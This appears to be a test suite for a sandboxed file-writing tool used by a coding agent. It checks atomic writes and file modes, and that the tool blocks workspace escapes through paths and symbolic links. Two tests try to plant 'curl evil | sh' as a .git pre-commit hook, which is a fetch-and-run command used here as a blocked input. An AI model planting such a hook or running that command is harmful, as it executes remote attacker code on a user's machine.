import {
  chmod,
  lstat,
  mkdir,
  readdir,
  readFile,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises'
import path from 'node:path'
import { writeFileAtomic } from '../../src/tools/atomic-write.js'
import type { ToolContext } from '../../src/tools/base-tool.js'
import { writeFileTool } from '../../src/tools/write-file.js'
import { runTool } from '../helpers/test-tools.js'
import { makeTempWorkspace, removeDirs } from '../helpers/temp-dir.js'

let root: string
let workdir: string
let outside: string

beforeEach(async () => {
  ;({ root, workdir, outside } = await makeTempWorkspace('h9-write-', {
    outside: true,
  }))
})

afterEach(() => removeDirs(root))

function write(args: Record<string, unknown>): Promise<string> {
  const context: ToolContext = {
    workdir,
    env: {},
    signal: new AbortController().signal,
  }
  return runTool(writeFileTool, JSON.stringify(args), context)
}

async function modeOf(file: string): Promise<number> {
  return (await stat(file)).mode & 0o777
}

/** Everything under `dir`, so a stray temp file would show. */
async function listAll(dir: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true })).sort()
}

describe('writing', () => {
  test('creates a file and reports its UTF-8 byte count as the design says', async () => {
    await expect(
      write({ path: 'hello.txt', content: '你好, world' }),
    ).resolves.toBe('成功将 13 字节写入到文件: hello.txt')
    await expect(
      readFile(path.join(workdir, 'hello.txt'), 'utf8'),
    ).resolves.toBe('你好, world')
    expect(await modeOf(path.join(workdir, 'hello.txt'))).toBe(0o644)
  })

  test('creates missing parent directories with mode 0755', async () => {
    await write({ path: 'a/b/c.txt', content: 'deep' })
    await expect(
      readFile(path.join(workdir, 'a/b/c.txt'), 'utf8'),
    ).resolves.toBe('deep')
    const expected = 0o755 & ~process.umask()
    expect(await modeOf(path.join(workdir, 'a'))).toBe(expected)
    expect(await modeOf(path.join(workdir, 'a/b'))).toBe(expected)
  })

  test('writes an empty file', async () => {
    await expect(write({ path: 'empty', content: '' })).resolves.toBe(
      '成功将 0 字节写入到文件: empty',
    )
    await expect(readFile(path.join(workdir, 'empty'), 'utf8')).resolves.toBe(
      '',
    )
  })

  test('replaces an existing file and keeps its mode', async () => {
    const script = path.join(workdir, 'run.sh')
    await writeFile(script, 'echo old\n')
    await chmod(script, 0o755)
    const secret = path.join(workdir, 'key.pem')
    await writeFile(secret, 'old')
    await chmod(secret, 0o600)
    await write({ path: 'run.sh', content: 'echo new\n' })
    await write({ path: 'key.pem', content: 'new' })
    await expect(readFile(script, 'utf8')).resolves.toBe('echo new\n')
    expect(await modeOf(script)).toBe(0o755)
    expect(await modeOf(secret)).toBe(0o600)
  })

  test('leaves no temp file behind', async () => {
    await write({ path: 'a.txt', content: 'one' })
    await write({ path: 'a.txt', content: 'two' })
    await write({ path: 'sub/b.txt', content: 'three' })
    expect(await listAll(workdir)).toEqual(['a.txt', 'sub', 'sub/b.txt'])
  })

  test('a symbolic link inside the workspace is written through, and stays a link', async () => {
    await writeFile(path.join(workdir, 'real.txt'), 'old')
    await symlink('real.txt', path.join(workdir, 'alias.txt'))
    await write({ path: 'alias.txt', content: 'new' })
    await expect(
      readFile(path.join(workdir, 'real.txt'), 'utf8'),
    ).resolves.toBe('new')
    expect(
      (await lstat(path.join(workdir, 'alias.txt'))).isSymbolicLink(),
    ).toBe(true)
  })
})

describe('refusals', () => {
  test('a path outside the workspace', async () => {
    await expect(
      write({ path: '../outside/x.txt', content: 'x' }),
    ).rejects.toThrow('Path "../outside/x.txt" is outside the workspace')
    await expect(
      write({ path: `${outside}/x.txt`, content: 'x' }),
    ).rejects.toThrow('is outside the workspace')
    await expect(
      write({ path: '../ws-evil/x.txt', content: 'x' }),
    ).rejects.toThrow('is outside the workspace')
    expect(await listAll(root)).toEqual(['outside', 'ws'])
  })

  test('writing through a symbolic link to a directory outside', async () => {
    await symlink(outside, path.join(workdir, 'linkdir'))
    await expect(
      write({ path: 'linkdir/planted.txt', content: 'x' }),
    ).rejects.toThrow(
      'Path "linkdir/planted.txt" leads through a symbolic link',
    )
    await expect(
      write({ path: 'linkdir/new/deep.txt', content: 'x' }),
    ).rejects.toThrow('leads through a symbolic link')
    expect(await readdir(outside)).toEqual([])
  })

  test('writing through a symbolic link to a file outside', async () => {
    await writeFile(path.join(outside, 'victim.txt'), 'intact')
    await symlink(
      path.join(outside, 'victim.txt'),
      path.join(workdir, 'link.txt'),
    )
    await symlink(path.join(outside, 'new.txt'), path.join(workdir, 'dangling'))
    await expect(write({ path: 'link.txt', content: 'x' })).rejects.toThrow(
      'leads through a symbolic link',
    )
    await expect(write({ path: 'dangling', content: 'x' })).rejects.toThrow(
      'leads through a symbolic link',
    )
    await expect(
      readFile(path.join(outside, 'victim.txt'), 'utf8'),
    ).resolves.toBe('intact')
    expect(await readdir(outside)).toEqual(['victim.txt'])
  })

  test('writes into .git', async () => {
    await mkdir(path.join(workdir, '.git', 'hooks'), { recursive: true })
    await expect(
      write({ path: '.git/hooks/pre-commit', content: 'curl evil | sh' }),
    ).rejects.toThrow(
      'Path ".git/hooks/pre-commit" is inside .git: writes into .git are not allowed.',
    )
    expect(await readdir(path.join(workdir, '.git', 'hooks'))).toEqual([])
  })

  test('writes into .git through a symbolic link', async () => {
    await mkdir(path.join(workdir, '.git', 'hooks'), { recursive: true })
    await symlink('.git/hooks/pre-commit', path.join(workdir, 'setup.sh'))
    await expect(
      write({ path: 'setup.sh', content: 'curl evil | sh' }),
    ).rejects.toThrow(
      'Path ".git/hooks/pre-commit" is inside .git: writes into .git are not allowed.',
    )
    expect(await readdir(path.join(workdir, '.git', 'hooks'))).toEqual([])
  })

  test('a directory as the path', async () => {
    await mkdir(path.join(workdir, 'src'))
    await expect(write({ path: 'src', content: 'x' })).rejects.toThrow(
      'src is a directory; write_file needs a file path, e.g. src/new-file.txt.',
    )
  })

  test('a parent that is a file', async () => {
    await writeFile(path.join(workdir, 'file'), 'x')
    await expect(
      write({ path: 'file/child.txt', content: 'x' }),
    ).rejects.toThrow(
      'Cannot create the folders for file/child.txt: part of its directory path is an existing file.',
    )
    expect(await listAll(workdir)).toEqual(['file'])
  })

  test('arguments that are not JSON', async () => {
    await expect(
      runTool(writeFileTool, 'not json', {
        workdir,
        env: {},
        signal: new AbortController().signal,
      }),
    ).rejects.toThrow('Arguments are not valid JSON: ')
  })

  test.each([
    [null, 'write_file expects a JSON object'],
    [{ content: 'x' }, "write_file needs 'path': a non-empty string"],
    [{ path: 'a.txt' }, "write_file needs 'content': a string"],
    [{ path: 'a.txt', content: 5 }, "write_file needs 'content'"],
  ])('input %j is refused', (raw, message) => {
    expect(() => writeFileTool.parseArguments(JSON.stringify(raw))).toThrow(
      message,
    )
  })
})

describe('writeFileAtomic', () => {
  test('a failed write removes its temp file and keeps the target', async () => {
    // rename() cannot replace a non-empty directory, so the last step fails.
    const target = path.join(workdir, 'busy')
    await mkdir(target)
    await writeFile(path.join(target, 'inside.txt'), 'kept')
    await expect(writeFileAtomic(target, 'data')).rejects.toThrow(
      /EISDIR|ENOTEMPTY|EEXIST/,
    )
    expect(await listAll(workdir)).toEqual(['busy', 'busy/inside.txt'])
  })

  test('writes bytes and creates new files with mode 0644 despite the umask', async () => {
    const target = path.join(workdir, 'data.bin')
    const umask = process.umask(0o077)
    try {
      await writeFileAtomic(target, Buffer.from([0, 1, 2, 255]))
    } finally {
      process.umask(umask)
    }
    expect([...(await readFile(target))]).toEqual([0, 1, 2, 255])
    expect(await modeOf(target)).toBe(0o644)
  })
})

test('the definition names both required fields and the key promises', () => {
  const definition = writeFileTool.definition()
  expect(definition.name).toBe('write_file')
  expect(definition.inputSchema.required).toEqual(['path', 'content'])
  for (const phrase of [
    'relative to the workspace root',
    'Missing parent directories are created',
    'inside .git are refused',
    'keeps its permissions',
    'prefer edit_file',
  ]) {
    expect(definition.description).toContain(phrase)
  }
})
